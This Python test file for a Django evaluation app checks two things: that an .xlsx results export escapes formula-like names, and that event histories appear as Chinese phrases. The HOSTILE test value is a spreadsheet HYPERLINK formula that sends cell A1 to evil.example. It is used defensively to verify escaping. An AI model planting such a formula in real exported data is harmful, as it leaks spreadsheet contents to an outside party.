"""Results .xlsx safe against formula injection (issue 14 item 8); histories in words
(issue 13 item 8)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from evaluations import services
from evaluations.models import Campaign, CampaignEvent, YearEndReferralEvent
from tests.factories.evaluations import advance_to, full_scores, roster

State = Campaign.State
pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def test_results_xlsx_writes_a_formula_like_name_as_text(client, world):
    """issue 14 item 8: a target (or evaluator) named =HYPERLINK(…) comes out as text; the
    criterion column fits its Chinese labels."""
    world.orgs.pmc.name = HOSTILE
    world.orgs.pmc.save()
    [(evaluator, token)] = roster(world, 1)
    evaluator.name = "+" + HOSTILE
    evaluator.save()
    advance_to(world, State.SCORING)
    services.ballot_submit(token=token, scores=full_scores(world.campaign))
    advance_to(world, State.APPROVED)
    response = client.get(reverse("evaluations:results_xlsx", args=[world.campaign.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert not [c.value for c in texts if c.value.startswith(("=", "+", "-", "@"))]
    hostile = [c for c in texts if "HYPERLINK" in c.value]
    assert hostile
    # the PMC and its chair's own target (物业管理委员会服务承诺 第4条) both carry the name
    assert ("'" + HOSTILE, "s") in {(c.value, c.data_type) for c in hostile}
    assert all(c.value.startswith("'" + HOSTILE) and c.data_type == "s" for c in hostile)
    assert not any("点此查看" in str(c.value) and c.value.startswith("'+") for c in texts)
    criteria = book.worksheets[1]
    longest = max(len(str(r[0].value)) for r in criteria.iter_rows(min_row=2, min_col=3, max_col=3))
    assert longest >= 12
    assert criteria.column_dimensions["C"].width >= 2 * longest  # Chinese counts double


def _verbs(pattern: str) -> set[str]:
    """Verbs written anywhere in the services package (split by concern, issue 15 item 2)."""
    files = sorted(Path(services.__file__).parent.glob("*.py"))
    assert len(files) > 1
    source = "\n".join(f.read_text() for f in files)
    return set(re.findall(pattern, source))


def test_every_event_verb_has_words_issue_13_item_8():
    """Every verb the services write has a label, every state a Chinese name."""
    campaign_verbs = _verbs(r'_event\(\s*[^)]*?verb="(\w+)"') - _verbs(
        r'_referral_event\(\s*[^)]*?verb="(\w+)"'
    )
    referral_verbs = _verbs(r'_referral_event\(\s*[^)]*?verb="(\w+)"')
    assert {"advance", "tokens_issue", "evaluator_add", "paper_confirm"} <= campaign_verbs
    assert {"create", "refresh", "submit", "motion"} <= referral_verbs
    assert campaign_verbs <= set(CampaignEvent.VERB_LABELS), campaign_verbs - set(
        CampaignEvent.VERB_LABELS
    )
    assert referral_verbs <= set(YearEndReferralEvent.VERB_LABELS)
    assert set(CampaignEvent.STATE_LABELS) == set(Campaign.State.values)
    with translation.override("zh-hans"):
        for label in [
            *CampaignEvent.VERB_LABELS.values(),
            *YearEndReferralEvent.VERB_LABELS.values(),
        ]:
            assert re.search(r"[\u4e00-\u9fff]", str(label)), f"no Chinese for {label}"


def test_history_shows_phrases_not_codes(client, world):
    roster(world, 1)
    advance_to(world, State.SCORING)
    client.force_login(world.community_secretary)
    with translation.override("zh-hans"):
        page = client.get(
            reverse("evaluations:manage", args=[world.campaign.pk]), HTTP_ACCEPT_LANGUAGE="zh-hans"
        ).content.decode()
    history = page[page.index("办理记录") :]
    for code in ("tokens_issue", "evaluator_add", "advance", "scoring", "→ scoring"):
        assert code not in history, code
    assert "打印测评票" in history
